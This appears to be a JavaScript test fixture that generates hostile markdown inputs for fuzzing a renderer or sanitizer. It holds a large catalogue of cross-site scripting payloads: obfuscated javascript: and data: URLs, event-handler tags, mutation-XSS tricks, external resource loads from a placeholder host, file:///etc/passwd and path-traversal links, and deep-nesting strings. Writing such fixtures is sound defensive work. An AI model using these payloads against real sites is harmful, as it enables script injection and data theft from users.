// hostile.mjs: markdown that wants to become more than text. Families of attacks, each with its variations;
// every one tries to run `attack(...)`, to load something from ELSEWHERE, or to leave its place in the page.

export const ELSEWHERE = 'https://elsewhere.invalid';
const RUN = 'attack(1)';

const schemes = [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
    `&#x6A;&#x61;&#x76;&#x61;script:${RUN}`, `javascript%3A${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`, 'data:text/html;base64,PHNjcmlwdD5hdHRhY2soMSk8L3NjcmlwdD4=', `blob:${ELSEWHERE}/x`,
    `file:///etc/passwd`, `//elsewhere.invalid/x`, `\\\\elsewhere.invalid\\x`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`,
    `javascript://%0a${RUN}`, `x-javascript:${RUN}`, 'about:blank', `jar:${ELSEWHERE}!/x`, `\u202ejavascript:${RUN}`, `javascript\u0000:${RUN}`,
];

const elements = [
    `<script>${RUN}</script>`, `<script src=${ELSEWHERE}/a.js></script>`, `<img src=x onerror=${RUN}>`, `<img src=${ELSEWHERE}/a.png>`,
    `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<object data=${ELSEWHERE}/a.swf></object>`,
    `<embed src=${ELSEWHERE}/a>`, `<link rel=stylesheet href=${ELSEWHERE}/a.css>`, `<style>@import '${ELSEWHERE}/a.css';</style>`, `<style>*{background:url(${ELSEWHERE}/b)}</style>`,
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`, `<base href=${ELSEWHERE}/>`, `<form action=${ELSEWHERE}><button>x</button></form>`,
    `<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video src=${ELSEWHERE}/a.mp4 onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`,
    `<body onload=${RUN}>`, `<math><mtext><img src=x onerror=${RUN}></mtext></math>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<a href="javascript:${RUN}">x</a>`, `<p style="background:url(${ELSEWHERE}/c)">x</p>`, `<marquee onstart=${RUN}>x</marquee>`, `<portal src=${ELSEWHERE}></portal>`, `<x-y onclick=${RUN} tabindex=0 autofocus>x</x-y>`,
];

const wraps = [
    (text) => text, (text) => `- ${text}`, (text) => `> ${text}`, (text) => `# ${text}`, (text) => `**${text}**`, (text) => `| a |\n|---|\n| ${text} |`,
    (text) => `- [ ] ${text}`, (text) => `[link](${text})`, (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`, (text) => `<!-- ${text} -->`, (text) => `<![CDATA[${text}]]>`, (text) => `</div></article>${text}`,
];

const links = [
    (url) => `[x](${url})`, (url) => `[x](<${url}>)`, (url) => `![x](${url})`, (url) => `![x](<${url}> "t")`, (url) => `<${url}>`, (url) => `[x]\n\n[x]: ${url}`, (url) => `[x][y]\n\n[y]: <${url}> 'title'`,
    (url) => `[![x](${url})](${url})`, (url) => `[x](${url} "\\" onmouseover=${RUN} x=\\"")`, (url) => `${url}`, (url) => `[x](\n${url}\n)`,
];

const odd = [
    `[x](https://ok.invalid" onmouseover="${RUN})`, `[x](https://ok.invalid' onclick='${RUN})`, `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``, `~~~ ' onclick=${RUN}\nx\n~~~`,
    `[constructor](x) [__proto__](y)`, `\u0000<script>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `\\<script>${RUN}\\</script>`,
    `${'['.repeat(3000)}x${']'.repeat(3000)}(javascript:${RUN})`, `${'> '.repeat(800)}<script>${RUN}</script>`, `${'- '.repeat(400)}x`, `${'*'.repeat(5000)}x`, `| ${'a | '.repeat(400)}\n|${'---|'.repeat(400)}\n`,
    `www.elsewhere.invalid ${ELSEWHERE}/auto x@elsewhere.invalid`, `[x](#/memory?edit=user)`, `[x](../../etc/passwd)`, `[x](/auth/exchange?t=1)`, `[x](./rpc/memory/write)`,
    `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`, `<img/src=x/onerror=${RUN}>`, `<svg/onload=${RUN}//`, `'"><img src=x onerror=${RUN}>`, '${attack(1)} {{attack(1)}} #{attack(1)}',
    `[x](https://ok.invalid/\u202e<img src=x onerror=${RUN}>)`, `\u2028<script>${RUN}</script>\u2029`, `<p id=main><p class=rail><p name=attack>`,
];

/** So many bodies, always the same and all different; each family has its share. */
export function hostileBodies(wanted) {
    const bodies = new Set(odd);
    const pick = (list, i, turn = 0) => list[(i + turn) % list.length];
    for (let i = 0; bodies.size < wanted; i++) {
        const url = pick(schemes, i), element = pick(elements, i);
        const link = pick(links, i, Math.floor(i / schemes.length)), wrap = pick(wraps, i, Math.floor(i / elements.length));
        bodies.add(wrap(element)).add(link(url)).add(pick(wraps, i, 5)(link(url)));
    }
    return [...bodies].slice(0, wanted);
}
